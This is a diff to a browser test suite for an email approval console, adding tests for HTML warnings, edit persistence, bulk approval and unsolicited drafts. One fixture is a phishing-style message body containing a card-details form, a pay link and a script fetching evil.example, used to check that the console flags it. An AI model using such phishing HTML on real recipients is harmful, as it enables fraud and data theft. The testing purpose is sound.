@@ -57,6 +57,12 @@ describe.skipIf(noBrowser)('approvals and keys at the console', () => {
     await page.getByRole('button', { name: 'Approve and send' }).waitFor()
   }
 
+  /** Saves what the page looks like, if `RESTANTE_TEST_PICTURES` names a folder. */
+  const picture = async (name: string) => {
+    const folder = process.env.RESTANTE_TEST_PICTURES
+    if (folder) await page.screenshot({ path: `${folder}/${name}.png`, fullPage: true })
+  }
+
   it('shows every field that the mail is made of, and what it answers', async () => {
     const time = new Date(Date.now() + 400 * 86_400_000)
     const id = await ask({
@@ -173,6 +179,60 @@ describe.skipIf(noBrowser)('approvals and keys at the console', () => {
     expect(await page.getByRole('button', { name: 'Approve and send' }).count()).toBe(0)
   })
 
+  const lying = {
+    text: 'Thank you.',
+    html: `<p>Thank you.</p><p><b>Please send your card details:</b></p>
+      <form action="https://evil.example"><input name="card"><button>Send</button></form>
+      <a href="https://evil.example/pay">here</a><img src="https://track.example/a.png">
+      <script>fetch('https://evil.example')</script><!--[if mso]>Pay now<![endif]-->`,
+  }
+
+  it('shows the HTML first, as most recipients see it, and warns of what differs and what was left out', async () => {
+    await show(await ask(lying))
+    const frame = page.frameLocator('iframe[title="HTML of the message"]')
+    await frame.getByText('Please send your card details').waitFor()
+    const box = (await page.locator('article iframe').boundingBox())!
+    const text = (await page.getByRole('region', { name: 'Plain text' }).boundingBox())!
+    expect(box.y).toBeLessThan(text.y)
+    const warnings = await page.getByRole('note').innerText()
+    for (const part of [
+      'Only the HTML has these words: “please”, “send”, “your”, “card”, “details”',
+      'Only the HTML has these links: “https://evil.example/pay”',
+      ...['3 form elements', '1 script', 'pictures from track.example', '1 part that only Outlook shows'],
+    ])
+      expect(warnings).toContain(part)
+    expect(tab.asked.filter((address) => /evil|track/.test(address))).toEqual([])
+    expect(await seriousFaults(page)).toEqual([])
+    await picture('approve-html')
+    await show(await ask({ text: 'Thank you.', html: '<p>Thank <b>you</b>.</p>' }))
+    expect(await page.getByRole('note').count()).toBe(0)
+  })
+
+  it('keeps an edit when its page is left, and makes the HTML again from it', async () => {
+    const id = await ask({ ...lying, subject: 'An edit' })
+    await show(id)
+    await page.getByRole('button', { name: 'Change it' }).click()
+    await page.getByLabel('Text').fill('Thank you & see you.\n\nhttps://shop.example/a')
+    await page.getByRole('link', { name: 'Keys' }).click()
+    await page.getByRole('heading', { name: 'API keys' }).waitFor()
+    await page.goto(`${url}/approvals?draft=${id}`)
+    await page.getByRole('button', { name: 'Send as changed' }).waitFor()
+    expect(await page.getByLabel('Text').inputValue()).toContain('Thank you & see you.')
+    await picture('approve-edit')
+    await page.getByRole('button', { name: 'Discard my changes' }).click()
+    await page.reload()
+    await page.getByRole('button', { name: 'Change it' }).click()
+    expect(await page.getByLabel('Text').inputValue()).toBe('Thank you.')
+    await page.getByLabel('Text').fill('Thank you & see you.\n\nhttps://shop.example/a')
+    await page.getByRole('button', { name: 'Send as changed' }).click()
+    await page.getByText('It goes out, as you changed it.').waitFor()
+    const { sent_message_id } = await statusOf(id)
+    const { body } = await service.call('GET', `/messages/${sent_message_id}`)
+    expect(body.body_html).toContain('<p>Thank you &amp; see you.</p>')
+    expect(body.body_html).toContain('<a href="https://shop.example/a">')
+    expect(body.body_html).not.toContain('card')
+  })
+
   it('decides on many at once', async () => {
     const ids = [await ask({ subject: 'First of many' }), await ask({ subject: 'Second of many' })]
     await page.goto(`${url}/approvals`)
@@ -182,9 +242,43 @@ describe.skipIf(noBrowser)('approvals and keys at the console', () => {
     await page.getByRole('dialog', { name: 'Reject 2 mails?' }).waitFor()
     expect(await seriousFaults(page)).toEqual([])
     await page.keyboard.press('Escape')
-    await page.getByRole('button', { name: 'Approve', exact: true }).click()
+    await page.getByRole('button', { name: 'Read and approve' }).click()
+    const dialog = page.getByRole('dialog', { name: 'Approve 2 messages?' })
+    await dialog.getByRole('article', { name: 'First of many' }).getByText('hello').waitFor()
+    await dialog.getByRole('article', { name: 'Second of many' }).getByText('bo@example.com').waitFor()
+    expect(await seriousFaults(page)).toEqual([])
+    await picture('approve-many')
+    await dialog.getByRole('button', { name: 'Approve all 2' }).click()
     await page.getByText('2 approved').waitFor()
     for (const id of ids) expect((await statusOf(id)).status).toBe('sent')
+  })
+
+  it('shows drafts that nobody asked for: plain, scheduled, and held by the flow rule', async () => {
+    const body = { inbox_id: service.home.inboxId, to: ['bo@example.com'], text: 'hello' }
+    const later = new Date(Date.now() + 86_400_000).toISOString()
+    const made: string[] = []
+    for (const more of [
+      { subject: 'A plain one' },
+      { subject: 'A later one', scheduled_at: later },
+      { subject: 'A held one', approval_reason: 'this run has read “Papers”' },
+    ])
+      made.push((await service.call('POST', '/drafts', { body: { ...body, ...more } })).body.id)
+    await page.goto(`${url}/approvals`)
+    const others = page.getByRole('region', { name: 'Other drafts' })
+    for (const subject of ['A plain one', 'A later one', 'A held one'])
+      await others.getByRole('button', { name: subject }).waitFor()
+    await others.getByRole('button', { name: 'A held one' }).click()
+    await page.getByText('The agent asks you, since this run has read “Papers”.').waitFor()
+    expect(await seriousFaults(page)).toEqual([])
+    await picture('other-drafts')
+    await page.getByRole('button', { name: 'Send now' }).click()
+    await page.getByText('It goes out.').waitFor()
+    expect((await statusOf(made[2]!)).status).toBe('sent')
+    await others.getByRole('button', { name: 'A later one' }).click()
+    await page.getByRole('button', { name: 'Cancel and delete' }).click()
+    await page.getByText('The draft is deleted.').waitFor()
+    await others.getByRole('button', { name: 'A later one' }).waitFor({ state: 'detached' })
+    expect((await service.call('GET', `/drafts/${made[1]}`)).status).toBe(404)
   })
 
   it('makes a key that is shown once, and revokes it', async () => {
